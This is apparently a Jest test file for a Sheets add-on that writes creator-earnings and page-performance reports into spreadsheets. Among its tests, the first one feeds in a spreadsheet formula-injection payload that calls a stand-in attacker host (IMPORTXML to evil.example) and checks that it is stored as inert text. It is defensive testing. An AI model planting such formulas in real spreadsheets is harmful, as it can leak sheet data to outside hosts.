import * as server from '../../src/sidebar/server';
import { runReportToSheet } from '../../src/run/run-report';
import { rowsPerCall } from '../../src/sheet/staged-values';
import { thousands } from '../../src/shared/text-size';
import { caught, sidebarWorld } from './world';

const SHEET = 'Page performance - site-1';

describe('runReport', () => {
  it('pulls every page and writes one block to a new sheet named after the report and site', () => {
    const w = sidebarWorld();
    w.connect();
    const result = server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastThirtyDays' });

    expect(result).toMatchObject({ sheetName: SHEET, rows: 1203, truncated: false });
    expect(result.range).toMatch(/^A1:[A-Z]+1204$/);
    expect(result.dataThrough).toMatch(/^2026-11-\d\d$/);
    expect(result.seconds).toBeGreaterThanOrEqual(0);
    const shown = w.shown(SHEET);
    expect(shown).toHaveLength(1204);
    expect(shown[0]).toEqual(expect.arrayContaining(['Page URL', 'Earnings', 'Pageviews', 'RPM']));
    // Hostile page paths from the API show exactly as typed, and no cell is a formula.
    const flat = shown.flat();
    expect(flat).toContain('=IMPORTXML("http://evil.example","//a")');
    expect(flat).toContain('+1-cheap-trick');
    const sheet = w.emu.platform().spreadsheet()!.getSheetByName(SHEET)!;
    expect(
      sheet
        .getDataRange()
        .getFormulas()
        .flat()
        .every((f) => f === ''),
    ).toBe(true);
    const note = sheet.getRange('A1').getNote();
    expect(note).toContain('Creator Reporting: Page performance');
    expect(note).toContain('Site: site-1');
    expect(note).toContain(`Dates: ${result.startDate} to ${result.endDate}`);
    expect(note).toContain(`Data through: ${result.dataThrough}`);
    expect(note).toMatch(/Refreshed: 2026-11-21 10:00 \(America\/New_York\)/);
  });

  it('never returns or writes the secret or a token', () => {
    const w = sidebarWorld();
    w.connect();
    const result = server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: 'lastMonth', runId: 'r-1' });
    const everything =
      JSON.stringify([result, server.getRunProgress(w.ex(), 'r-1'), w.shown(result.sheetName)]) +
      w.emu.platform().spreadsheet()!.getSheetByName(result.sheetName)!.getRange('A1').getNote();
    expect(everything).not.toContain('demo-secret');
    expect(everything).not.toMatch(/Bearer|access_token/);
  });

  it('reports progress under the run id while pages arrive, then the outcome', () => {
    const w = sidebarWorld();
    w.connect();
    const seen: string[] = [];
    runReportToSheet(
      w.ex(),
      { report: 'pages/performance', siteId: 'site-1', start: 'lastThirtyDays', runId: 'run-42' },
      // What another execution polling getRunProgress would read at each step.
      { onProgress: () => seen.push(server.getRunProgress(w.ex(), 'run-42')!.message) },
    );
    expect(seen).toContain('Fetched page 3 of 3');
    expect(seen).toContain('Writing 1,203 rows');
    expect(server.getRunProgress(w.ex(), 'run-42')).toEqual({
      runId: 'run-42',
      message: `Wrote 1,203 rows to ${SHEET}`,
      page: 0,
      pages: null,
      done: true,
    });
    expect(server.getRunProgress(w.ex(), 'unknown-run')).toBeNull();
    expect(caught(() => server.getRunProgress(w.ex(), 'bad id!')).code).toBe('BAD_INPUT');
  });

  it('reports the rows written while a big pull is still fetching, as "Writing rows N of M"', () => {
    const w = sidebarWorld();
    w.connect();
    const seen: string[] = [];
    runReportToSheet(
      w.ex(),
      { report: 'pages/performance', siteId: 'site-big', start: '2026-10-01', end: '2026-10-31', options: { limit: 21_000 } },
      { onProgress: (message) => seen.push(message) },
    );
    const lastPage = seen.indexOf('Fetched page 42 of 42');
    expect(lastPage).toBeGreaterThan(0);
    // Written a setValues call at a time as the pages arrive (the header rides with the first
    // call's rows; page performance has 15 columns), the rest at the end.
    const firstCall = `Writing rows ${thousands(rowsPerCall(15) - 1)} of 21,000`;
    expect(seen.indexOf(firstCall)).toBeGreaterThan(-1);
    expect(seen.indexOf(firstCall)).toBeLessThan(lastPage);
    expect(seen).toContain('Writing rows 21,000 of 21,000');
  });

  it('leaves the sheet untouched when the pull fails, and says what to do', () => {
    const w = sidebarWorld();
    w.connect();
    server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastThirtyDays', options: { limit: 10 } });
    const before = w.shown(SHEET);
    w.emu.resetCounters();
    w.api.inject({ kind: 'status', status: 500, times: 50, path: 'pages/performance' });

    const failure = caught(() =>
      server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastThirtyDays', runId: 'run-x' }),
    );
    expect(failure.code).toBe('SERVER_ERROR');
    expect(w.shown(SHEET)).toEqual(before);
    expect(w.emu.counters.setValuesCalls).toBe(0);
    expect(server.getRunProgress(w.ex(), 'run-x')).toMatchObject({ done: true, message: failure.message });
  });

  it('creates no sheet when the pull fails', () => {
    const w = sidebarWorld();
    w.connect();
    const failure = caught(() =>
      server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: '2020-01-01', end: '2020-01-31' }),
    );
    expect(failure).toMatchObject({ code: 'OUT_OF_BOUNDS', message: /available from 2024-01-01 to 2026-11-\d\d/ });
    expect(
      w.emu
        .platform()
        .spreadsheet()!
        .getSheets()
        .map((s) => s.getName()),
    ).toEqual(['Sheet1']);
  });

  it('refreshes its own block: fewer rows clear the old ones, the user\u2019s cells stay', () => {
    const w = sidebarWorld();
    w.connect();
    server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastThirtyDays', options: { limit: 50 } });
    const sheet = w.emu.platform().spreadsheet()!.getSheetByName(SHEET)!;
    const width = sheet.getLastColumn();
    sheet.getRange(1, width + 2).setValue('My comments');
    sheet.getRange(60, 1).setValue('My total');

    const result = server.runReport(w.ex(), {
      report: 'pages/performance',
      siteId: 'site-1',
      start: 'lastThirtyDays',
      options: { limit: 20 },
    });
    expect(result.rows).toBe(20);
    expect(
      sheet
        .getRange(22, 1, 30, width)
        .getValues()
        .flat()
        .every((v) => v === ''),
    ).toBe(true);
    expect(sheet.getRange(1, width + 2).getValue()).toBe('My comments');
    expect(sheet.getRange(60, 1).getValue()).toBe('My total');
  });

  it('stops with BLOCK_CONFLICT when the chosen sheet has the user\u2019s content in the way', () => {
    const w = sidebarWorld();
    w.connect();
    const budget = w.emu.platform().spreadsheet()!.insertSheet('Budget');
    budget.getRange('D2').setValue('rent');
    const failure = caught(() =>
      server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: 'lastMonth', sheetName: 'Budget' }),
    );
    expect(failure).toMatchObject({
      code: 'BLOCK_CONFLICT',
      message: "Sheet 'Budget' has other content in D2, where this report needs to write. Move that content or choose another sheet.",
    });
    expect(w.shown('Budget')).toEqual([
      ['', '', '', ''],
      ['', '', '', 'rent'],
    ]);
  });

  it('keeps owning its block after the user renames the sheet', () => {
    const w = sidebarWorld();
    w.connect();
    server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: 'lastMonth', sheetName: 'Earnings' });
    w.emu.platform().spreadsheet()!.getSheetByName('Earnings')!.setName('Money');
    const again = server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: 'lastThirtyDays', sheetName: 'Money' });
    expect(again.sheetName).toBe('Money');
    expect(again.rows).toBe(30);
  });

  it('gives saved reports their own block on a shared sheet', () => {
    const w = sidebarWorld();
    w.connect();
    const a = runReportToSheet(
      w.ex(),
      { report: 'devices/performance', siteId: 'site-1', start: 'lastMonth', sheetName: 'Dash' },
      { blockId: 'saved-a' },
    );
    expect(a.range).toMatch(/^A1:/);
    const b = caught(() =>
      runReportToSheet(
        w.ex(),
        { report: 'devices/performance', siteId: 'site-2', start: 'lastMonth', sheetName: 'Dash' },
        { blockId: 'saved-b' },
      ),
    );
    expect(b.code).toBe('BLOCK_CONFLICT');
    const again = runReportToSheet(
      w.ex(),
      { report: 'devices/performance', siteId: 'site-1', start: 'lastThirtyDays', sheetName: 'Dash' },
      { blockId: 'saved-a', bypassCache: true },
    );
    expect(again.range).toBe(a.range);
  });

  it('stacks all active sites with a Site column into a sheet named for all sites', () => {
    const w = sidebarWorld();
    w.connect();
    const result = server.runReport(w.ex(), { report: 'devices/performance', siteId: 'all', start: 'lastMonth' });
    expect(result.sheetName).toBe('Device performance - all sites');
    expect(w.shown(result.sheetName)[0][0]).toBe('Site');
    expect(w.emu.platform().spreadsheet()!.getSheetByName(result.sheetName)!.getRange('A1').getNote()).toMatch(
      /Sites: site-1, site-2, site-3, site-big/,
    );
  });

  it('checks the request before fetching anything', () => {
    const w = sidebarWorld();
    w.connect();
    w.emu.resetCounters();
    expect(caught(() => server.runReport(w.ex(), { report: 'pages/performance', siteId: '', start: 'lastMonth' })).message).toBe(
      'Choose a site (or all sites) for the report.',
    );
    expect(
      caught(() => server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastMonth', options: { limit: 0 } }))
        .code,
    ).toBe('BAD_INPUT');
    expect(
      caught(() =>
        server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastMonth', sheetName: 'x'.repeat(101) }),
      ).code,
    ).toBe('BAD_INPUT');
    expect(w.emu.counters.requests).toBe(0);
  });
});
